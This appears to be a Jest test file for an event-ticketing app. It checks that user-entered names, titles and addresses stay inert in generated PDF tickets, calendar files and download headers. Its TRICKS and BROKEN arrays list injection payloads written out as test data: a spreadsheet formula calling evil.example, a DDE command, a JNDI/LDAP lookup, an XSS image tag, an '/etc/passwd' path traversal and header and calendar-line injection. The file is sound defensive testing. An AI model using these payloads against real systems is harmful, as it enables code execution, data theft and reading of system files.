import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, test } from '@jest/globals';
import ICAL from 'ical.js';
import { TicketsService } from '../../../src/tickets/tickets.service.js';
import { startApp, type TestApp } from '../../support/app.js';
import type { Answer, Client, Json } from '../../support/client.js';
import { openSale, plainHall, type Sale } from '../../support/halls.js';
import { card } from '../../support/money.js';
import { testWith } from '../../support/needing.js';
import { tool } from '../../support/tools.js';

/** Each means something to some reader: spreadsheets, PDF, calendars, HTML, templates, loggers, shells, paths. */
const TRICKS = [
  '=HYPERLINK("http://evil.example","x")',
  '@SUM(1)*cmd|calc!A0',
  ') Tj ET Q (',
  '(((\\',
  '/URI (javascript:1) >> endobj',
  'A\\nBEGIN:VALARM\\n;X=1:2,3',
  '<img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: such was a famous one
  '${jndi:ldap://evil.example} %s%n',
  '../../etc/passwd',
  '"; filename=evil.exe',
];
const BROKEN = [
  '\r\nBEGIN:VALARM',
  'a\nb',
  'a\tb',
  '\u001b[31m',
  '\u009b2J',
  'a\u2028b',
  '\u202etxt.exe',
  '\u2066a',
];

describe('what people write stays text', () => {
  const folder = mkdtempSync(join(tmpdir(), 'evently-inert-'));
  let app: TestApp;
  let sale: Sale;
  beforeAll(async () => {
    app = await startApp();
    sale = await openSale(app, plainHall(2, 20));
  });
  afterAll(async () => {
    rmSync(folder, { recursive: true, force: true });
    await app.close();
  });

  const change = async (client: Client, path: string, body: Json): Promise<Answer> => {
    const { headers } = await client.get(path);
    return client.patch(path, body, headers.etag ? { 'if-match': headers.etag } : {});
  };

  test('names and titles are one line that every reader shows as it is written', async () => {
    const [user] = await app.people(1);
    const { client } = sale.organizer;
    const venue = `/venues/${sale.venueId}`;
    const event = `/events/${sale.eventId}`;
    for (const wrong of BROKEN)
      for (const send of [
        () => change(user!.client, '/auth/me', { name: `Ada ${wrong} B` }),
        () => change(client, event, { title: `Final ${wrong} B` }),
        () => change(client, event, { category: `x ${wrong} B` }),
        () => change(client, venue, { address: `x ${wrong} B` }),
        () => client.post(`${event}/check-in`, { token: 'x', gate: `x ${wrong} B` }),
      ]) {
        const { status, body } = await send();
        assert.deepEqual([status, body.code], [422, 'validation_failed'], JSON.stringify([wrong, body]));
      }
    for (const fine of ['שלום\u200f (א)', 'نور\u200c ها', 'Zoë  O’Brien-Łuk', '=1+1', '👩\u200d🎤'])
      assert.equal((await change(user!.client, '/auth/me', { name: fine })).status, 200, fine);
  });

  testWith('qpdf', 'pdftotext')('on tickets and in calendars, for readers that are not ours', async () => {
    const { client } = sale.organizer;
    for (let seat = 0; seat < TRICKS.length; seat += 3) {
      const [title, venue, name] = ['T', 'V', 'N'].map(
        (letter, i) => `${letter} ${TRICKS.at((seat + i) % TRICKS.length)}`,
      );
      const [buyer] = await app.people(1);
      for (const [who, path, body] of [
        [client, `/events/${sale.eventId}`, { title }],
        [client, `/venues/${sale.venueId}`, { name: venue }],
        [buyer!.client, '/auth/me', { name }],
      ] as const) {
        const changed = await change(who, path, body);
        assert.equal(changed.status, 200, JSON.stringify(changed.body));
      }
      const { id } = (await buyer!.client.post(`/events/${sale.eventId}/holds`, { seats: [seat] })).body;
      assert.equal((await buyer!.client.post(`/bookings/${id}/checkout`, card())).status, 200);
      await app.nest.get(TicketsService).issue(sale.eventId, id);

      const answer = await fetch(`${app.url}/api/v1/bookings/${id}/tickets.pdf`, {
        headers: { authorization: `Bearer ${buyer!.token}` },
      });
      const file = join(folder, `${seat}.pdf`);
      writeFileSync(file, Buffer.from(await answer.arrayBuffer()));
      assert.match(
        execFileSync(tool('qpdf'), ['--check', file]).toString(),
        /No syntax or stream encoding errors/,
      );
      const plain = execFileSync(tool('qpdf'), ['--qdf', '--object-streams=disable', file, '-']).toString(
        'latin1',
      );
      assert.doesNotMatch(
        plain,
        /^\s*\/(Annots|JavaScript|JS|OpenAction|AA|URI|Launch|EmbeddedFiles)\b/m,
        title,
      );
      const shown = execFileSync(tool('pdftotext'), ['-raw', file, '-']).toString().replace(/\s+/g, '');
      for (const text of [title, venue, name] as string[])
        assert.ok(
          shown.includes(text.replace(/\s+/g, '')),
          `${text} is not on the page: ${shown.slice(0, 400)}`,
        );
      assert.doesNotMatch(answer.headers.get('content-disposition') ?? '', /evil/);

      const { body: ics } = await buyer!.client.get(`/bookings/${id}/tickets.ics`);
      for (const written of ics.trimEnd().split('\r\n')) assert.doesNotMatch(written, /[\r\n]/);
      const calendar = new ICAL.Component(ICAL.parse(ics));
      assert.deepEqual(
        calendar.getAllSubcomponents().map(({ name }: Json) => name),
        ['vevent'],
      );
      const event = new ICAL.Event(calendar.getFirstSubcomponent('vevent')!);
      assert.deepEqual([event.summary, event.component.getAllSubcomponents()], [title, []]);
      assert.equal(event.location, `${venue}, Street 1, Erfurt`);
    }
  });
});
